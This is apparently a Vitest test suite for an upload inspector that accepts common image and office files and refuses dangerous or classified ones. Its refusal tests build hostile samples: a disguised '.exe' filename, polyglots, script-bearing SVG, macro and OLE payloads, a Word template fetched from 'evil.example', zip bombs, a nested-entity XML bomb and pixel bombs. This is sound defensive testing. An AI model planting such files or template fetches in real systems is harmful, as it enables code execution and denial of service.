// What is taken and what is not: real files of each kind, and those of people who mean harm or make mistakes.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, expect, test } from 'vitest';
import { createInspector } from '#files/inspector.ts';
import {
  docx,
  docxParts,
  heic,
  pdf,
  photo,
  png,
  pngOfSize,
  scene,
  types,
  webp,
  xlsx,
  zip,
} from '../setup/samples.ts';

const folder = mkdtempSync(join(tmpdir(), 'dondoc-files-'));
const inspector = createInspector();
afterAll(async () => {
  await inspector.close();
  rmSync(folder, { recursive: true });
});

let written = 0;
async function inspect(name: string, content: Buffer | string, declared: string | null = null) {
  const path = join(folder, String(written++));
  writeFileSync(path, content);
  return inspector.inspect({ path, name, declared });
}
const refusal = async (name: string, content: Buffer | string, declared: string | null = null) => {
  const verdict = await inspect(name, content, declared);
  return 'refused' in verdict ? verdict.refused : `taken as ${verdict.type}`;
};

test('each kind that is taken, told by its content', async () => {
  const kinds = {
    'ảnh.jpg': [await photo(), types.jpg],
    'ảnh.JPEG': [await photo(), types.jpg],
    'a.png': [await png(), types.png],
    'a.webp': [await webp(), types.webp],
    'IMG_0001.HEIC': [heic(), types.heic],
    'a.pdf': [pdf('Bao cao'), types.pdf],
    'a.docx': [await docx('Báo cáo kết quả'), types.docx],
    'a.xlsx': [await xlsx('Họ và tên'), types.xlsx],
  } as const;
  for (const [name, [content, type]] of Object.entries(kinds)) {
    for (const declared of [null, type, 'application/octet-stream'])
      expect(await inspect(name, content, declared), name).toMatchObject({
        name,
        type,
        bytes: content.length,
      });
  }
  expect(await inspect('không đuôi', await png())).toMatchObject({ name: 'không đuôi.png' });
});

test('a picture shows the photo upright and says nothing of where and by whom it was taken', async () => {
  const seen = await inspect('a.jpg', await photo(400, 300));
  if ('refused' in seen) throw new Error(seen.refused);
  const { width, height, exif, orientation } = await sharp(seen.picture!).metadata();
  expect({ width, height, exif, orientation }).toEqual({ width: 300, height: 400 });
  expect((await sharp(await photo()).metadata()).exif, 'the photo itself has it').toBeDefined();
});

test('an iPhone’s photo becomes a picture that looks like it', async () => {
  const seen = await inspect('a.heic', heic());
  if ('refused' in seen) throw new Error(seen.refused);
  const { data, info } = await sharp(seen.picture!).raw().toBuffer({ resolveWithObject: true });
  expect(info).toMatchObject({ width: 64, height: 48 });
  const colour = (x: number, y: number) => [...data.subarray((y * 64 + x) * 3, (y * 64 + x) * 3 + 3)];
  const [red, , blue] = colour(60, 40);
  expect(red! - blue!).toBeGreaterThan(100);
  const [cornerRed, , cornerBlue] = colour(5, 5);
  expect(cornerBlue! - cornerRed!).toBeGreaterThan(100);
});

test('a photo sent again smaller and poorer looks the same; another photo, and a document, do not', async () => {
  const lookOf = async (content: Buffer, name = 'ảnh.jpg') =>
    ((await inspect(name, content)) as { look: string | null }).look;
  const bits = (a: string | null, b: string | null) =>
    (BigInt.asUintN(64, BigInt(a!)) ^ BigInt.asUintN(64, BigInt(b!))).toString(2).replaceAll('0', '').length;
  const first = await lookOf(await scene(1));
  expect(bits(first, await lookOf(await scene(1, 320, 40)))).toBeLessThanOrEqual(6);
  for (let seed = 2; seed < 8; seed++)
    expect(bits(first, await lookOf(await scene(seed)))).toBeGreaterThan(12);
  expect(await lookOf(pdf('Kế hoạch'), 'kế hoạch.pdf')).toBeNull();
});

test('the first page of a PDF is drawn, and of documents the first words are kept', async () => {
  const page = await inspect('a.pdf', pdf('TRANG'));
  if ('refused' in page) throw new Error(page.refused);
  const { dominant } = await sharp(page.picture!).stats();
  expect(dominant.r).toBeGreaterThan(200);
  expect((await sharp(page.picture!).stats()).channels[0]!.min, 'something is written on it').toBeLessThan(
    80,
  );
  expect(await inspect('a.docx', await docx('Dòng một', 'Dòng hai'))).toMatchObject({
    excerpt: 'Dòng một\nDòng hai',
  });
  expect(await inspect('a.xlsx', await xlsx('Tổ 1', 'Tổ 2'))).toMatchObject({ excerpt: 'Tổ 1\nTổ 2' });
});

test('a file that says it is something else', async () => {
  expect(await refusal('a.pdf', await photo())).toBe('file_lies');
  expect(await refusal('a.png', await photo())).toBe('file_lies');
  expect(await refusal('a.xlsx', await docx('x'))).toBe('file_lies');
  expect(await refusal('a.docm', await docx('x'))).toBe('file_lies');
  expect(await refusal('a.jpg', await photo(), 'image/png')).toBe('file_lies');
  // What reads as gpj.exe when the direction of reading is turned.
  expect(await refusal('ảnh\u202Egpj.exe', await photo())).toBe('file_lies');
});

test('one file that two programs read as two things', async () => {
  const hidden = await docx('Ẩn');
  expect(await refusal('a.jpg', Buffer.concat([await photo(), hidden]))).toBe('file_lies');
  expect(await refusal('a.pdf', Buffer.concat([pdf('x'), hidden]))).toBe('file_lies');
});

test('what is no evidence: scripts, programs, old formats, nothing', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
  expect(await refusal('a.svg', svg)).toBe('file_type');
  expect(await refusal('a.jpg', svg)).toBe('file_type');
  expect(await refusal('a.html', '<!doctype html><script>alert(1)</script>')).toBe('file_type');
  expect(await refusal('a.jpg', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]))).toBe('file_type');
  expect(
    await refusal('a.doc', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4_000)])),
  ).toBe('file_type');
  expect(await refusal('a.zip', await zip({ 'a.txt': 'x' }))).toBe('file_type');
  expect(await refusal('a.jpg', '')).toBe('file_empty');
  expect(await refusal('a.jpg', Buffer.alloc(25_000_001))).toBe('file_too_large');
});

test('macros, programs and templates from elsewhere in documents', async () => {
  const parts = docxParts('x');
  const macro = String(parts['[Content_Types].xml']).replace(
    `${types.docx}.main+xml`,
    'application/vnd.ms-word.document.macroEnabled.main+xml',
  );
  const fetching = `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
  const attacks: Record<string, Record<string, string | Buffer>> = {
    'macro as docm': { '[Content_Types].xml': macro },
    'macro with its type hidden': { 'word/vbaProject.bin': 'x' },
    'Excel 4 macro': { 'xl/macrosheets/sheet1.xml': '<x/>' },
    program: { 'word/embeddings/a.exe': 'MZ' },
    'program as an OLE package': {
      'word/embeddings/oleObject1.bin': Buffer.from('\u0001Ole10Native', 'utf16le'),
    },
    'template from elsewhere': { 'word/_rels/settings.xml.rels': fetching },
    'macro in a workbook within': {
      'word/embeddings/Book1.xlsx': await zip({ ...parts, 'xl/vbaProject.bin': 'x' }),
    },
  };
  for (const [what, added] of Object.entries(attacks))
    expect(await refusal('a.docx', await zip({ ...parts, ...added })), what).toBe('file_programs');
  const charted = { ...parts, 'word/embeddings/Book1.xlsx': await xlsx('Số liệu') };
  expect(await refusal('a.docx', await zip(charted)), 'a chart’s workbook is none').toBe(
    `taken as ${types.docx}`,
  );
});

test('files that unpack to far more than they are', async () => {
  const parts = docxParts('x');
  const nothing = Buffer.alloc(40_000_000);
  expect(await refusal('a.docx', await zip({ ...parts, 'word/media/a.bin': nothing })), 'ratio').toBe(
    'file_bomb',
  );
  const many = Object.fromEntries(Array.from({ length: 3_001 }, (_, at) => [`word/media/${at}`, 'x']));
  expect(await refusal('a.docx', await zip({ ...parts, ...many })), 'parts').toBe('file_bomb');
  const deep = await zip({
    ...parts,
    'word/embeddings/b.docx': await zip({ ...parts, 'c.zip': await docx('x') }),
  });
  expect(await refusal('a.docx', deep), 'nesting').toBe('file_bomb');
  expect(await refusal('a.docx', lyingPart()), 'a part larger than it says').toBe('file_bomb');
  // A million entities of entities: the reader expands none of them.
  const laughs = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document xmlns:w="w"><w:t>&b;</w:t></w:document>`;
  expect(await refusal('a.docx', await zip({ ...parts, 'word/document.xml': laughs }))).toBe(
    'file_unreadable',
  );
});

/** Claims ten bytes, unpacks to ten thousand. */
function lyingPart(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(10_000));
  const name = Buffer.from('word/a.xml');
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(8, 4);
  common.writeUInt32LE(packed.length, 14);
  common.writeUInt32LE(10, 18);
  common.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, name, packed]);
  const central = Buffer.concat([
    Buffer.from('PK\x01\x02'),
    Buffer.from([20, 0]),
    common,
    Buffer.alloc(14),
    name,
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

test('pictures of more pixels than anybody’s camera has, told before one is decoded', async () => {
  for (const [width, height] of [
    [10_000, 10_000],
    [60_000, 60_000],
    [50_000_001, 1],
  ] as const) {
    const begun = Date.now();
    expect(await refusal('a.png', pngOfSize(width, height))).toBe('file_pixels');
    expect(Date.now() - begun).toBeLessThan(2_000);
  }
  const large = await sharp({ create: { width: 9_000, height: 5_000, channels: 3, background: 'red' } })
    .jpeg()
    .toBuffer();
  expect(await refusal('a.jpg', large), '45 million').toBe('taken as image/jpeg');
});

test('broken and locked files', async () => {
  const whole = await photo(800, 600);
  expect(await refusal('a.jpg', whole.subarray(0, whole.length * 0.6))).toBe('file_unreadable');
  expect(await refusal('a.png', pngOfSize(1_000, 1_000))).toBe('file_unreadable');
  expect(await refusal('a.heic', heic().subarray(0, 300))).toBe('file_unreadable');
  expect(await refusal('a.pdf', '%PDF-1.7\nnothing')).toBe('file_unreadable');
  const packed = await docx('x'.repeat(5_000));
  expect(await refusal('a.docx', packed.subarray(0, packed.length - 40))).toBe('file_unreadable');
  const broken = { ...docxParts('x'), 'word/document.xml': '<w:document><w:p>' };
  expect(await refusal('a.docx', await zip(broken))).toBe('file_unreadable');
});

test('files that bear the stamp of a secret, wherever it stands', async () => {
  const parts = docxParts('Nội dung');
  const w = 'xmlns:w="w" xmlns:v="v"';
  const stamped: Record<string, Buffer> = {
    'in a paragraph': await docx('Kính gửi', 'MẬT'),
    'split over runs': await docx('T</w:t></w:r><w:r><w:t>ỐI M</w:t></w:r><w:r><w:t>ẬT'),
    'in decomposed letters': await docx('TUYỆT MẬT'.normalize('NFD')),
    'as numbers of letters': await docx('T&#x1ED0;I M&#7852;T'),
    'in the header': await zip({
      ...parts,
      'word/header1.xml': `<w:hdr ${w}><w:p><w:r><w:t>Độ mật: Mật</w:t></w:r></w:p></w:hdr>`,
    }),
    'in a text box': await zip({
      ...parts,
      'word/document.xml': `<w:document ${w}><w:p><w:r><w:t>Trước</w:t></w:r><w:txbxContent><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:txbxContent></w:p></w:document>`,
    }),
    'as WordArt': await zip({
      ...parts,
      'word/header2.xml': `<w:hdr ${w}><v:textpath string="TỐI MẬT"/></w:hdr>`,
    }),
    'in the font of before Unicode': await docx('TèI MËT'),
  };
  for (const [where, content] of Object.entries(stamped))
    expect(await refusal('a.docx', content), where).toBe('file_classified');
  expect(await refusal('a.xlsx', await xlsx('STT', 'TUYỆT MẬT'))).toBe('file_classified');
  expect(await refusal('a.pdf', pdf('SO 12', 'M@T'))).toBe('file_classified');
  expect(await refusal('BC (Mật).pdf', pdf('x'))).toBe('file_classified');
  expect(await refusal('bao-cao_toi-mat.jpg', await photo())).toBe('file_classified');
});

test('what hangs in a reader ends with its thread, and the next file is looked at', async () => {
  const impatient = createInspector(1);
  const path = join(folder, 'slow');
  writeFileSync(path, await photo());
  expect(await impatient.inspect({ path, name: 'a.jpg', declared: null })).toEqual({ refused: 'file_bomb' });
  await impatient.close();
  expect(await refusal('a.jpg', await photo())).toBe('taken as image/jpeg');
});
